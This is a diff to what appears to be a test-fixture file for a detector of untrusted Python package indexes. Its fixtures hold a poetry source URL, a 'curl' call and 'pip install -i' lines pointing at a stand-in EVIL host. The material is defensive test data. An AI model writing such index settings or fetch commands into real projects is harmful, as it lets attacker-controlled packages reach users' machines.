@@ -26,7 +26,7 @@ OPENED: dict[str, tuple[str, str | bytes, list[int]]] = {
     "poetry source": (
         "pyproject.toml",
         f'[[tool.poetry.source]]\nname = "e"\npriority = "explicit"\nurl = "{EVIL}"\n',
-        [4],
+        [4, 1],
     ),
     "poetry, PyPI by name": ("pyproject.toml", '[[tool.poetry.source]]\nname = "PyPI"\npriority = "primary"\n', [1]),
     "poetry dependency": (
@@ -181,7 +181,7 @@ CLEAN: dict[str, tuple[str, str]] = {
     ),
     "a Makefile": (
         "Makefile",
-        f"MIRROR = {EVIL}\nx:\n\tcurl {EVIL}\n\tpip install -i $(MIRROR) .\n\tuv sync --frozen\n",
+        f"HOME = {EVIL}\nx:\n\tcurl {EVIL}\n\tpip install -i $(MIRROR) .\n\tuv sync --frozen\n",
     ),
     "a line that talks": ("x.sh", f"echo 'use pip install -i {EVIL}'; git commit -m 'pip -i {EVIL}'\n"),
     "Dockerfile": ("Dockerfile", f"FROM python:3.11\nARG PIP_INDEX_URL\nENV A=b\nRUN pip install -i {MIRROR} .\n"),
